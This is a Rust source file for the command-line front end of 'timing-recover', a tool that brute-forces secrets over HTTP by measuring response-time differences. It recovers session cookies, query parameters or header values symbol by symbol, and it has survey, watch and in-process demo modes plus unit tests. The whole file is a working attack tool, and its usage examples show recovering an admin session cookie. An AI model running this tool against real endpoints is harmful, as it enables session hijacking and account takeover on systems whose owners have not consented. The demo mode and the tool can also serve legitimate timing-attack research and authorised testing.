//! Command-line front end for timing side-channel secret recovery.
//!
//! # Usage
//!
//! ```bash
//! # Compare response times of a few URLs, five passes one second apart
//! timing-recover urls https://target.local/a https://target.local/b
//!
//! # Compare padded cookie values
//! timing-recover cookies https://target.local/admin session aa ab ac --length 32
//!
//! # Stream response times of one URL with a running mean
//! timing-recover watch https://target.local/a --sleep 0.2
//!
//! # Recover a 32-symbol hex cookie
//! timing-recover recover https://target.local/admin --cookie session \
//!   --alphabet 0123456789abcdef --filler x --trials 2000 --cachebust \
//!   --accept-status 200 --accept-status 401
//!
//! # Recover a secret from an in-process early-exit comparison
//! timing-recover demo --secret s3cr3t --preset quick
//! ```

use std::io::IsTerminal;
use std::ops::ControlFlow;
use std::time::{Duration, Instant};

use anyhow::{bail, Context, Result};
use clap::{ArgAction, Args, Parser, Subcommand, ValueEnum};
use indicatif::{ProgressBar, ProgressStyle};
use tracing_subscriber::EnvFilter;

use timing_recover::measurement::RemoteOracleBuilder;
use timing_recover::output::{
    format_ranking, format_result, format_round, format_summary, format_watch, to_json_pretty,
};
use timing_recover::survey::{Survey, SurveyTarget};
use timing_recover::{
    Alphabet, Config, CpuPinning, LocalOracle, Oracle, Pacing, ProbeBuilder, Recovery,
    RemoteOracle, RoundObserver, RoundReport, SignalPolicy, TrialOrder,
};

/// Recover secrets through response-time differences
#[derive(Parser)]
#[command(name = "timing-recover")]
#[command(version)]
#[command(about = "Blind timing side-channel secret recovery", long_about = None)]
#[command(propagate_version = true)]
struct Cli {
    #[command(subcommand)]
    command: Commands,

    /// Increase log verbosity (-v debug, -vv trace). RUST_LOG overrides.
    #[arg(short, long, global = true, action = ArgAction::Count)]
    verbose: u8,

    /// Print results as JSON on stdout
    #[arg(long, global = true)]
    json: bool,
}

#[derive(Subcommand)]
enum Commands {
    /// Recover a secret from an HTTP endpoint
    Recover {
        /// Target URL
        url: String,

        #[command(flatten)]
        injection: InjectionArgs,

        #[command(flatten)]
        session: SessionArgs,

        #[command(flatten)]
        http: HttpArgs,
    },

    /// Time several URLs interleaved and tabulate the results
    Urls {
        /// URLs to compare
        #[arg(required = true)]
        urls: Vec<String>,

        /// Passes over the URL list
        #[arg(long, default_value = "5")]
        tests: usize,

        #[command(flatten)]
        http: HttpArgs,
    },

    /// Time several padded cookie values interleaved and tabulate the results
    Cookies {
        /// Target URL
        url: String,

        /// Cookie name
        name: String,

        /// Cookie values, padded to --length with --filler
        #[arg(required = true)]
        values: Vec<String>,

        /// Passes over the value list
        #[arg(long, default_value = "5")]
        tests: usize,

        /// Length values are padded to
        #[arg(long, default_value = "32")]
        length: usize,

        /// Padding symbol
        #[arg(long, default_value = "0")]
        filler: char,

        #[command(flatten)]
        http: HttpArgs,
    },

    /// Time one URL continuously and print a running mean
    Watch {
        /// URL to time
        url: String,

        /// Stop after this many requests (0: until interrupted)
        #[arg(long, default_value = "0")]
        count: usize,

        #[command(flatten)]
        http: HttpArgs,
    },

    /// Recover a secret from an in-process early-exit comparison
    Demo {
        /// Secret the comparison checks against
        #[arg(long)]
        secret: String,

        /// Busy-wait per matching symbol, in nanoseconds
        #[arg(long, default_value = "500")]
        delay_ns: u64,

        #[command(flatten)]
        session: SessionArgs,
    },
}

#[derive(Args)]
#[group(required = true, multiple = false)]
struct InjectionArgs {
    /// Send the guess in this cookie
    #[arg(long)]
    cookie: Option<String>,

    /// Send the guess in this query parameter
    #[arg(long)]
    query: Option<String>,

    /// Send the guess in this request header
    #[arg(long = "inject-header")]
    inject_header: Option<String>,
}

#[derive(Args)]
struct SessionArgs {
    /// Trial-count preset
    #[arg(long, value_enum, default_value = "default")]
    preset: Preset,

    /// Secret length; defaults to the demo secret's length
    #[arg(long)]
    length: Option<usize>,

    /// Padding symbol, excluded from the default alphabet
    #[arg(long, default_value = "0")]
    filler: char,

    /// Candidate symbols in tie-break order (default: printable ASCII minus the filler)
    #[arg(long)]
    alphabet: Option<String>,

    /// Paired trials per candidate per round (overrides preset)
    #[arg(long)]
    trials: Option<usize>,

    /// Unrecorded warmup pairs per candidate (overrides preset)
    #[arg(long)]
    warmup: Option<usize>,

    /// Measurement order inside each pair
    #[arg(long, value_enum, default_value = "alternating")]
    order: OrderArg,

    /// Minimum separation in standard errors before a round is flagged
    #[arg(long, default_value = "2.0")]
    min_separation: f64,

    /// Scores within this many nanoseconds of the best count as tied
    #[arg(long, default_value = "0.0")]
    tie_epsilon: f64,

    /// Abort on tied or weak rounds instead of warning
    #[arg(long)]
    strict: bool,

    /// Pin to this CPU (default: current CPU for local oracles)
    #[arg(long)]
    cpu: Option<usize>,

    /// Do not pin the CPU
    #[arg(long, conflicts_with = "cpu")]
    no_pin: bool,

    /// Stop after this many seconds
    #[arg(long)]
    max_duration: Option<f64>,

    /// Seed for trial ordering and cache-busting
    #[arg(long)]
    seed: Option<u64>,

    /// Show this many top candidates after each round
    #[arg(long, default_value = "0")]
    show_top: usize,
}

#[derive(Args)]
struct HttpArgs {
    /// Seconds of idle time between requests
    #[arg(long, default_value = "0")]
    sleep: f64,

    /// Maximum requests per second (token bucket, overrides --sleep)
    #[arg(long)]
    rate: Option<u32>,

    /// Append a unique throwaway query parameter to every request
    #[arg(long)]
    cachebust: bool,

    /// Verify TLS certificates
    #[arg(long)]
    verify_tls: bool,

    /// Extra request header, "Name: value" (repeatable)
    #[arg(short = 'H', long = "header")]
    headers: Vec<String>,

    /// Request timeout in seconds
    #[arg(long, default_value = "30")]
    timeout: u64,

    /// Treat this status as a normal response (repeatable; default: any 2xx or 3xx)
    #[arg(long = "accept-status")]
    accept_status: Vec<u16>,
}

#[derive(Clone, Copy, ValueEnum)]
enum Preset {
    Quick,
    Default,
    Thorough,
}

#[derive(Clone, Copy, ValueEnum)]
enum OrderArg {
    Alternating,
    Randomized,
    BaseFirst,
}

impl From<OrderArg> for TrialOrder {
    fn from(order: OrderArg) -> Self {
        match order {
            OrderArg::Alternating => TrialOrder::Alternating,
            OrderArg::Randomized => TrialOrder::Randomized,
            OrderArg::BaseFirst => TrialOrder::BaseFirst,
        }
    }
}

fn main() -> Result<()> {
    let cli = Cli::parse();
    init_tracing(cli.verbose);

    match cli.command {
        Commands::Recover {
            url,
            injection,
            session,
            http,
        } => {
            let builder = http.apply(RemoteOracle::builder(url.as_str()));
            let builder = match (injection.cookie, injection.query, injection.inject_header) {
                (Some(name), _, _) => builder.cookie(name),
                (_, Some(name), _) => builder.query(name),
                (_, _, Some(name)) => builder.header_injection(name),
                _ => bail!("one of --cookie, --query or --inject-header is required"),
            };
            let builder = match session.seed {
                Some(seed) => builder.seed(seed),
                None => builder,
            };
            let mut oracle = builder
                .build()
                .with_context(|| format!("failed to set up HTTP oracle for {}", url))?;

            let recovery = session
                .recovery(None)?
                .pacing(http.pacing()?);
            run_recovery(&recovery, &mut oracle, session.show_top, cli.json)
        }

        Commands::Urls { urls, tests, http } => {
            let first = urls.first().cloned().unwrap_or_default();
            let mut oracle = http
                .apply(RemoteOracle::builder(first))
                .build()
                .context("failed to set up HTTP client")?;
            let targets = SurveyTarget::urls(urls);
            run_survey(&mut oracle, &targets, tests, http.survey_pacing()?, cli.json)
        }

        Commands::Cookies {
            url,
            name,
            values,
            tests,
            length,
            filler,
            http,
        } => {
            let mut oracle = http
                .apply(RemoteOracle::builder(url.as_str()))
                .cookie(name)
                .build()
                .with_context(|| format!("failed to set up HTTP oracle for {}", url))?;
            let builder = ProbeBuilder::new(length, filler);
            let targets = SurveyTarget::padded_values(&url, &values, &builder)
                .context("cookie value longer than --length")?;
            run_survey(&mut oracle, &targets, tests, http.survey_pacing()?, cli.json)
        }

        Commands::Watch { url, count, http } => {
            let mut oracle = http
                .apply(RemoteOracle::builder(url.as_str()))
                .build()
                .with_context(|| format!("failed to set up HTTP client for {}", url))?;
            let stats = Survey::new()
                .tests(count)
                .pacing(http.pacing()?)
                .watch(&mut oracle, &SurveyTarget::url(url), |tick, stats| {
                    println!("{}", format_watch(tick, stats));
                    ControlFlow::Continue(())
                })
                .context("invalid pacing")?;
            tracing::info!("{} responses timed", stats.count());
            Ok(())
        }

        Commands::Demo {
            secret,
            delay_ns,
            session,
        } => {
            let expected: Vec<char> = secret.chars().collect();
            let delay = Duration::from_nanos(delay_ns);
            let mut oracle = LocalOracle::new(|probe: &str| early_exit_eq(probe, &expected, delay));

            let recovery = session.recovery(Some(expected.len()))?;
            run_recovery(&recovery, &mut oracle, session.show_top, cli.json)
        }
    }
}

fn init_tracing(verbose: u8) {
    let default = match verbose {
        0 => "info",
        1 => "debug",
        _ => "trace",
    };
    let filter = EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new(default));
    tracing_subscriber::fmt()
        .with_env_filter(filter)
        .with_writer(std::io::stderr)
        .init();
}

impl SessionArgs {
    fn recovery(&self, default_length: Option<usize>) -> Result<Recovery> {
        let mut config = match self.preset {
            Preset::Quick => Config::quick(),
            Preset::Default => Config::default(),
            Preset::Thorough => Config::thorough(),
        };

        if let Some(length) = self.length.or(default_length) {
            config.target_length = length;
        }
        config.filler = self.filler;
        config.alphabet = match &self.alphabet {
            Some(symbols) => Alphabet::parse(symbols).context("invalid --alphabet")?,
            None => Alphabet::printable_ascii_without(self.filler),
        };
        if let Some(trials) = self.trials {
            config.trials = trials;
        }
        if let Some(warmup) = self.warmup {
            config.warmup = warmup;
        }
        config.trial_order = self.order.into();
        config.min_separation = self.min_separation;
        config.tie_epsilon_ns = self.tie_epsilon;
        if self.strict {
            config.signal_policy = SignalPolicy::strict();
        }
        config.cpu_pinning = match (self.no_pin, self.cpu) {
            (true, _) => CpuPinning::Off,
            (false, Some(cpu)) => CpuPinning::Core(cpu),
            (false, None) => CpuPinning::Auto,
        };
        if let Some(secs) = self.max_duration {
            config.max_duration = Some(seconds(secs).context("invalid --max-duration")?);
        }
        config.seed = self.seed;

        config.validate().context("invalid session settings")?;
        Ok(Recovery::with_config(config))
    }
}

impl HttpArgs {
    fn apply(&self, mut builder: RemoteOracleBuilder) -> RemoteOracleBuilder {
        builder = builder
            .cache_bust(self.cachebust)
            .verify_tls(self.verify_tls)
            .timeout(Duration::from_secs(self.timeout));
        for header in &self.headers {
            match header.split_once(':') {
                Some((name, value)) => builder = builder.header(name.trim(), value.trim()),
                None => {
                    tracing::warn!("ignoring malformed header {:?}, want \"Name: value\"", header)
                }
            }
        }
        for &status in &self.accept_status {
            builder = builder.accept_status(status);
        }
        builder
    }

    fn pacing(&self) -> Result<Pacing> {
        match self.rate {
            Some(per_second) => Ok(Pacing::RateLimit {
                per_second,
                burst: 1,
            }),
            None => Pacing::from_secs_f64(self.sleep).context("invalid --sleep"),
        }
    }

    /// Surveys default to one second between requests.
    fn survey_pacing(&self) -> Result<Pacing> {
        if self.rate.is_none() && self.sleep == 0.0 {
            return Ok(Pacing::Fixed(Duration::from_secs(1)));
        }
        self.pacing()
    }
}

/// Non-negative seconds as a duration, rejecting values too large to represent.
fn seconds(secs: f64) -> Result<Duration> {
    Duration::try_from_secs_f64(secs)
        .with_context(|| format!("{} is not a usable number of seconds", secs))
}

/// Early-exit comparison that spends `delay` on every matching symbol.
fn early_exit_eq(probe: &str, secret: &[char], delay: Duration) -> bool {
    let mut chars = probe.chars();
    for &expected in secret {
        match chars.next() {
            Some(c) if c == expected => spin(delay),
            _ => return false,
        }
    }
    chars.next().is_none()
}

fn spin(delay: Duration) {
    let start = Instant::now();
    while start.elapsed() < delay {
        std::hint::spin_loop();
    }
}

/// Progress bar over the candidates of the current round.
struct Progress {
    bar: ProgressBar,
    show_top: usize,
}

impl Progress {
    fn new(show_top: usize) -> Self {
        let bar = if std::io::stderr().is_terminal() {
            ProgressBar::new(0)
        } else {
            ProgressBar::hidden()
        };
        let template =
            "{spinner:.green} [{elapsed_precise}] [{bar:40.cyan/blue}] {pos}/{len} | {msg}";
        if let Ok(style) = ProgressStyle::default_bar().template(template) {
            bar.set_style(style.progress_chars("=>-"));
        }
        Self { bar, show_top }
    }
}

impl RoundObserver for Progress {
    fn on_round(&mut self, report: &RoundReport) {
        self.bar.println(format_round(report));
        if self.show_top > 0 {
            self.bar.println(format_ranking(report, self.show_top));
        }
    }

    fn on_candidate(&mut self, round: usize, symbol: char, index: usize, total: usize) {
        self.bar.set_length(total as u64);
        self.bar.set_position(index as u64);
        self.bar.set_message(format!("round {} candidate {:?}", round, symbol));
    }
}

fn run_recovery<O>(recovery: &Recovery, oracle: &mut O, show_top: usize, json: bool) -> Result<()>
where
    O: Oracle + ?Sized,
{
    let mut progress = Progress::new(show_top);
    let outcome = recovery.run_with_observer(oracle, &mut progress);
    progress.bar.finish_and_clear();

    match outcome {
        Ok(result) => {
            if json {
                println!("{}", to_json_pretty(&result)?);
            } else {
                print!("{}", format_result(&result));
            }
            Ok(())
        }
        Err(err) => {
            if let Some(prefix) = err.partial_prefix() {
                eprintln!("partial secret: {:?}", prefix);
            }
            Err(err).context("recovery failed")
        }
    }
}

fn run_survey(
    oracle: &mut RemoteOracle,
    targets: &[SurveyTarget],
    tests: usize,
    pacing: Pacing,
    json: bool,
) -> Result<()> {
    let bar = if std::io::stderr().is_terminal() {
        ProgressBar::new((tests * targets.len()) as u64)
    } else {
        ProgressBar::hidden()
    };

    let result = Survey::new()
        .tests(tests)
        .pacing(pacing)
        .run(oracle, targets, |target, _| {
            bar.set_message(target.label.clone());
            bar.inc(1);
        })
        .context("invalid survey pacing")?;
    bar.finish_and_clear();

    if !result.failures.is_empty() {
        tracing::warn!("{} requests failed", result.failures.len());
    }

    if json {
        println!("{}", to_json_pretty(&result)?);
    } else {
        print!("{}", format_summary(&result.summarize()));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_seconds_rejects_unrepresentable_values() {
        assert_eq!(seconds(1.5).unwrap(), Duration::from_millis(1500));
        assert!(seconds(-1.0).is_err());
        assert!(seconds(f64::NAN).is_err());
        assert!(seconds(1e30).is_err());
    }

    #[test]
    fn test_huge_max_duration_is_an_error() {
        let args = ["timing-recover", "demo", "--secret", "ab", "--max-duration", "1e30"];
        let cli = Cli::try_parse_from(args).unwrap();
        let Commands::Demo { session, .. } = cli.command else {
            panic!("expected demo");
        };
        assert!(session.recovery(Some(2)).is_err());
    }

    #[test]
    fn test_huge_sleep_is_an_error() {
        let cli = Cli::try_parse_from(["timing-recover", "watch", "http://x/", "--sleep", "1e30"])
            .unwrap();
        let Commands::Watch { http, .. } = cli.command else {
            panic!("expected watch");
        };
        assert!(http.pacing().is_err());
    }

    #[test]
    fn test_accept_status_is_repeatable() {
        let cli = Cli::try_parse_from([
            "timing-recover",
            "recover",
            "http://x/",
            "--cookie",
            "session",
            "--accept-status",
            "200",
            "--accept-status",
            "401",
        ])
        .unwrap();
        let Commands::Recover { http, .. } = cli.command else {
            panic!("expected recover");
        };
        assert_eq!(http.accept_status, vec![200, 401]);
    }
}
